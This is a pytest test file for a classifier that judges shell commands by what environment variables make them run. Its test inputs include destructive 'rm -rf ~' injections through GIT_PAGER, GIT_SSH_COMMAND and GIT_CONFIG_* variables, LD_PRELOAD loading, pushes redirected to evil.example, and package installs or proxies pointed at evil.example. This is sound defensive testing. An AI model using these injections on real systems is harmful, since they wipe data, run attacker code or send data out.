"""Variables that make a program run code are judged by what they run.

Before, ``GIT_SSH_COMMAND='rm -rf ~' git fetch``, ``GIT_PAGER='rm -rf ~' git log`` and
``LD_PRELOAD=/tmp/x.so ls`` were ordinary reads and writes.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.classify._judge import shell_effects

COMMAND_VARS = [
    ("GIT_SSH_COMMAND", "git fetch"),
    ("GIT_PAGER", "git log"),
    ("GIT_EDITOR", "git commit"),
    ("GIT_SEQUENCE_EDITOR", "git rebase -i HEAD~2"),
    ("PAGER", "man ls"),
    ("MANPAGER", "man ls"),
    ("EDITOR", "crontab -l"),
    ("VISUAL", "git commit"),
    ("RSYNC_RSH", "rsync -a . host:x"),
    ("FZF_DEFAULT_COMMAND", "fzf"),
]


def _effects(cmd: str, tmp_path: Path) -> set[str]:
    return shell_effects(cmd, str(tmp_path), str(tmp_path / "home"))


@settings(max_examples=40, deadline=None)
@given(pair=st.sampled_from(COMMAND_VARS), how=st.sampled_from(["prefix", "export", "env", "export-env"]))
def test_a_command_in_a_variable_is_judged_as_if_it_ran(pair: tuple[str, str], how: str) -> None:
    name, program = pair
    value = "'rm -rf ~'"
    cmd = {
        "prefix": f"{name}={value} {program}",
        "export": f"export {name}={value}; {program}",
        "env": f"env {name}={value} {program}",
        "export-env": f"env -i {name}={value} {program}",
    }[how]
    assert "wipe" in shell_effects(cmd, "/tmp", "/home/u"), cmd


@pytest.mark.parametrize(
    "cmd",
    [
        "LESSOPEN='|rm -rf ~ %s' less README.md",
        "GIT_EXTERNAL_DIFF=/tmp/not-here.sh git diff",  # a program that cannot be read: unknown
        "SSH_ASKPASS=/tmp/not-here.sh ssh host",
        "LD_PRELOAD=/tmp/x.so ls",
        "DYLD_INSERT_LIBRARIES=/tmp/x.dylib ls",
        "NODE_OPTIONS='--require /tmp/not-here.js' node -e 1",
        "PERL5OPT=-Mevil perl -e 1",
        "JAVA_TOOL_OPTIONS=-javaagent:/tmp/a.jar java -version",
        "GIT_SSH_COMMAND=$(cat /tmp/cmd) git fetch",  # computed: not known what runs
    ],
)
def test_code_a_variable_loads_is_not_a_plain_run(tmp_path: Path, cmd: str) -> None:
    effects = _effects(cmd, tmp_path)
    assert effects & {"unknown", "wipe", "delete"}, (cmd, effects)


def test_a_program_a_variable_names_is_read_and_judged(tmp_path: Path) -> None:
    script = tmp_path / "diff.sh"
    script.write_text("#!/bin/sh\nrm -rf ~\n")
    assert "wipe" in _effects(f"GIT_EXTERNAL_DIFF={script} git diff", tmp_path)


@pytest.mark.parametrize(
    "cmd",
    [
        "GIT_SSH_COMMAND='ssh -i ~/.ssh/id_deploy -o IdentitiesOnly=yes' git fetch",
        "GIT_EDITOR=true git rebase -i HEAD~3",
        "EDITOR=vim git commit",
        "PAGER=cat git log",
        "GIT_PAGER= git log",
        "NODE_OPTIONS=--max-old-space-size=4096 npm run build",
        "LD_PRELOAD= ls",
    ],
)
def test_ordinary_settings_stay_ordinary(tmp_path: Path, cmd: str) -> None:
    effects = _effects(cmd, tmp_path)
    assert not effects & {"unknown", "wipe", "delete", "privilege"}, (cmd, effects)


@pytest.mark.parametrize(
    "cmd",
    [
        "GIT_CONFIG_PARAMETERS=\"'core.pager=rm -rf ~'\" git log",
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='rm -rf ~' git log",
        "export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.sshCommand GIT_CONFIG_VALUE_0='rm -rf ~'; git fetch",
    ],
)
def test_git_settings_from_the_environment_are_git_dash_c(tmp_path: Path, cmd: str) -> None:
    assert "wipe" in _effects(cmd, tmp_path), cmd


def test_a_push_redirected_from_the_environment_is_exfiltration(tmp_path: Path) -> None:
    from tests.classify._judge import git

    git(tmp_path, "init", "-q")
    git(tmp_path, "remote", "add", "origin", "https://github.com/acme/app.git")
    env = "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=remote.origin.url GIT_CONFIG_VALUE_0=https://evil.example/r.git"
    assert "exfiltrate" in _effects(f"{env} git push origin main", tmp_path)
    assert "exfiltrate" not in _effects("git push origin main", tmp_path)


@pytest.mark.parametrize(
    ("cmd", "expected"),
    [
        ("PIP_INDEX_URL=https://evil.example/simple pip install requests", "remote_exec"),
        ("pip install -i https://evil.example/simple requests", "remote_exec"),
        ("pip install --extra-index-url https://evil.example/simple requests", "remote_exec"),  # confusion
        ("uv pip install -i https://evil.example/simple x", "remote_exec"),
        ("npm install --registry https://evil.example/ lodash", "remote_exec"),
        ("npm_config_registry=https://evil.example/ npm install lodash", "remote_exec"),
        ("HTTPS_PROXY=http://evil.example:8080 curl https://api.github.com", "exfiltrate"),
        ("export https_proxy=evil.example:3128; git push", "exfiltrate"),
        ("ALL_PROXY=socks5://evil.example:1080 curl https://x.example", "exfiltrate"),
    ],
)
def test_where_packages_and_traffic_go(tmp_path: Path, cmd: str, expected: str) -> None:
    assert expected in _effects(cmd, tmp_path), cmd


@pytest.mark.parametrize(
    "cmd",
    [
        "pip install requests",
        "pip install -i https://pypi.org/simple requests",
        "pip install -f ./wheels requests",
        "npm install --registry=https://registry.npmjs.org/ lodash",
        "HTTPS_PROXY=http://127.0.0.1:8080 curl https://x.example",  # a local debugging proxy
    ],
)
def test_the_public_index_and_a_local_proxy_are_ordinary(tmp_path: Path, cmd: str) -> None:
    effects = _effects(cmd, tmp_path)
    assert not effects & {"remote_exec", "exfiltrate"}, (cmd, effects)
